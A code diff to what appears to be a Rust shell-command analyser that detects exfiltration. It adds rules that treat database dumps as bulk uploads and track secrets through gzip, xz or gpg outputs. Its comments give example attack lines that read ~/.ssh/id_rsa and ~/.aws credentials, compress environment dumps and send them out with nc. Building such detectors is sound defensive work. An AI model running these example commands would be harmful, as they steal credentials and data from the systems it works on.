@@ -33,15 +33,19 @@ use crate::targets::{self, Cwd};
 use crate::taxonomy::{Args, RuleRef, ids};
 use crate::walk::{Producer, Scope, Walker, Word};
 
-/// A verdict for `rule` that carries `flow`; the reason names the flow. Found files (not
-/// credentials) reaching the network are a bulk upload, whichever sink raised it.
+/// A verdict for `rule` that carries `flow`; the reason names the flow. Found files and a
+/// database dump (not credentials) reaching the network are bulk uploads, whichever sink
+/// raised it.
 pub(crate) fn verdict(rule: RuleRef, flow: Flow) -> Verdict {
-    let rule =
-        if rule == ids::CRED_EXFILTRATE && matches!(flow.source, FlowSource::FoundFiles { .. }) {
+    let rule = match flow.source {
+        FlowSource::FoundFiles { .. } if rule == ids::CRED_EXFILTRATE => {
             ids::NET_UPLOAD_FOUND_FILES
-        } else {
-            rule
-        };
+        }
+        FlowSource::DatabaseDump { .. } if rule == ids::CRED_EXFILTRATE => {
+            ids::NET_UPLOAD_DATABASE_DUMP
+        }
+        _ => rule,
+    };
     let mut v = rule.verdict();
     v.reason = format!("{}: {flow}", v.reason);
     v.flow = Some(flow);
@@ -414,6 +418,63 @@ const FILTERS: &[&str] = &[
     "node", "xargs", "sponge", "cpio", "split",
 ];
 
+/// Whether `name` dumps a database's contents: `Some(true)` to stdout, `Some(false)` into a
+/// file its options name (`pg_dump -f F`, `mysqldump --result-file=F`, `mongoexport -o F`,
+/// `mongodump --archive=F`, see [`dump_file`]), `None` for anything else (`mongodump` without
+/// `--archive` writes a directory tree).
+fn database_dump(name: &str, words: &[Word]) -> Option<bool> {
+    let has = |opts: &[&str]| {
+        words.iter().any(|w| {
+            let t = w.text.as_str();
+            opts.iter().any(|o| {
+                t == *o
+                    || t.strip_prefix(o)
+                        .is_some_and(|r| r.starts_with('=') || (o.len() == 2 && !r.is_empty()))
+            })
+        })
+    };
+    let help = has(&["--help", "--version", "-V", "-?"]);
+    match name {
+        "pg_dump" | "pg_dumpall" if !help => Some(!has(&["-f", "--file"])),
+        "mysqldump" | "mariadb-dump" | "mysqlpump" if !help => Some(!has(&["-r", "--result-file"])),
+        "mongoexport" if !help => Some(!has(&["-o", "--out"])),
+        "mongodump" if !help => {
+            let archive = words.iter().find(|w| w.text.starts_with("--archive"))?;
+            Some(archive.text == "--archive")
+        }
+        _ => None,
+    }
+}
+
+/// The file a database dump writes when its options name one ([`database_dump`]).
+fn dump_file<'w>(name: &str, words: &'w [Word]) -> Option<&'w str> {
+    let opts: &[&str] = match name {
+        "pg_dump" | "pg_dumpall" => &["-f", "--file"],
+        "mysqldump" | "mariadb-dump" | "mysqlpump" => &["-r", "--result-file"],
+        "mongoexport" => &["-o", "--out"],
+        "mongodump" => &["--archive"],
+        _ => return None,
+    };
+    let mut it = words.iter();
+    while let Some(w) = it.next() {
+        let t = w.text.as_str();
+        for o in opts {
+            if t == *o {
+                return it.next().map(|v| v.text.as_str());
+            }
+            if let Some(r) = t.strip_prefix(o) {
+                if let Some(v) = r.strip_prefix('=') {
+                    return Some(v);
+                }
+                if o.len() == 2 && !r.is_empty() {
+                    return Some(r);
+                }
+            }
+        }
+    }
+    None
+}
+
 /// Readers whose file operands end up on stdout (`base64 ~/.ssh/id_rsa`, `tar cz ~/.aws`).
 const FILE_READERS: &[&str] = &[
     "cat", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "strings", "tar", "zip",
@@ -502,6 +563,12 @@ pub(crate) fn command_source(
             if let Some(root) = archived_tree(name, words, cwd, ctx) {
                 return Some(FlowSource::FoundFiles { root });
             }
+        }
+        n if database_dump(n, words).is_some_and(|to_stdout| to_stdout) => {
+            let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+            return Some(FlowSource::DatabaseDump {
+                command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
+            });
         }
         // `git archive HEAD` (no `-o`) and `git bundle create - --all` stream the repository's
         // tree or history to stdout: the same bulk upload as `tar czf - .` when it reaches
@@ -2837,6 +2904,103 @@ fn option_output<'w>(name: &str, words: &'w [Word]) -> Option<(&'w str, Vec<&'w 
     Some((out?, inputs))
 }
 
+/// Compressors and decompressors that write each file operand beside itself under a new
+/// name (`gzip F` → `F.gz`, `xz F` → `F.xz`, `gunzip F.gz` → `F`, `gpg -c F` → `F.gpg`;
+/// gpg's `-c` is "symmetric", not "stdout"):
+/// `(output, input)` pairs. The output holds what the input held, so a secret the line put in
+/// `F` is still a secret in `F.gz` (`printenv > /tmp/k; gzip /tmp/k; nc H P < /tmp/k.gz`).
+/// Empty when the tool writes to stdout (`-c`, `--stdout`; the pipe carries it instead) or
+/// only tests or lists.
+fn in_place_outputs<'w>(name: &str, words: &'w [Word]) -> Vec<(String, &'w str)> {
+    let (suffix, decompress_default) = match name {
+        "gzip" | "pigz" => (".gz", false),
+        "gunzip" | "unpigz" => (".gz", true),
+        "bzip2" | "pbzip2" | "lbzip2" => (".bz2", false),
+        "bunzip2" => (".bz2", true),
+        "xz" | "pixz" => (".xz", false),
+        "unxz" => (".xz", true),
+        "lzma" => (".lzma", false),
+        "unlzma" => (".lzma", true),
+        "zstd" | "pzstd" => (".zst", false),
+        "unzstd" => (".zst", true),
+        "lz4" => (".lz4", false),
+        "brotli" => (".br", false),
+        "lzop" => (".lzo", false),
+        "compress" => (".Z", false),
+        "gpg" | "gpg2" => (".gpg", false),
+        _ => return Vec::new(),
+    };
+    let mut suffix = suffix.to_owned();
+    let mut decompress = decompress_default;
+    let mut operands = Vec::new();
+    let gpg = suffix == ".gpg";
+    let mut it = words.iter();
+    while let Some(w) = it.next() {
+        let t = w.text.as_str();
+        if gpg {
+            match t {
+                "-o" | "--output" | "-d" | "--decrypt" | "--list-packets" | "--verify" => {
+                    return Vec::new();
+                }
+                "-a" | "--armor" | "--clearsign" => ".asc".clone_into(&mut suffix),
+                "-r" | "--recipient" | "-u" | "--local-user" | "--passphrase" | "--cipher-algo"
+                | "--passphrase-file" | "--homedir" | "--default-key" | "--pinentry-mode" => {
+                    it.next();
+                }
+                _ if t.starts_with("--output=") => return Vec::new(),
+                // A short cluster (`-ca`, `-sea`): `o` names the output, `d` decrypts to stdout.
+                _ if t.starts_with('-') && !t.starts_with("--") && t.len() > 2 => {
+                    if t.contains(['o', 'd']) {
+                        return Vec::new();
+                    }
+                    if t.contains('a') {
+                        ".asc".clone_into(&mut suffix);
+                    }
+                    if t.contains('r') || t.contains('u') {
+                        it.next();
+                    }
+                }
+                _ if t.starts_with('-') => {}
+                _ => operands.push(t),
+            }
+            continue;
+        }
+        match t {
+            "-c" | "--stdout" | "--to-stdout" | "-t" | "--test" | "-l" | "--list" | "-o"
+            | "--output" => return Vec::new(),
+            "-d" | "--decompress" | "--uncompress" | "--decrypt" => decompress = true,
+            "-S" | "--suffix" => suffix = it.next().map_or(suffix, |v| v.text.clone()),
+            _ if t.starts_with("--suffix=") => {
+                t["--suffix=".len()..].clone_into(&mut suffix);
+            }
+            // A short cluster that writes to stdout (`gzip -9c`, `xz -dc`).
+            _ if t.starts_with('-') && !t.starts_with("--") && t.len() > 1 => {
+                let c = &t[1..];
+                if c.contains('c') || c.contains('t') || c.contains('l') {
+                    return Vec::new();
+                }
+                if c.contains('d') {
+                    decompress = true;
+                }
+            }
+            _ if t.starts_with('-') => {}
+            _ => operands.push(t),
+        }
+    }
+    operands
+        .into_iter()
+        .filter_map(|o| {
+            if decompress {
+                o.strip_suffix(suffix.as_str())
+                    .filter(|b| !b.is_empty())
+                    .map(|b| (b.to_owned(), o))
+            } else {
+                Some((format!("{o}{suffix}"), o))
+            }
+        })
+        .collect()
+}
+
 /// Archive tools, copies and links whose output holds what they read: `(output, inputs)`
 /// (`cp ~/.ssh/id_rsa /tmp/k`, `ln -s ~/.aws/credentials r.txt`, `tar czf /tmp/a.tgz ~/.aws`,
 /// `zip -r k.zip ~/.ssh`).
@@ -3163,6 +3327,25 @@ impl Walker<'_> {
             && let Some(p) = place(out, scope, self.ctx)
         {
             self.files.secret.push((p, source));
+        }
+        if database_dump(name, words) == Some(false)
+            && let Some(out) = dump_file(name, words)
+            && let Some(p) = place(out, scope, self.ctx)
+        {
+            let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+            self.files.secret.push((
+                p,
+                FlowSource::DatabaseDump {
+                    command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
+                },
+            ));
+        }
+        for (out, input) in in_place_outputs(name, words) {
+            if let Some(source) = read_source(input, &scope.cwd, self.ctx, &self.files)
+                && let Some(p) = place(&out, scope, self.ctx)
+            {
+                self.files.secret.push((p, source));
+            }
         }
     }
 
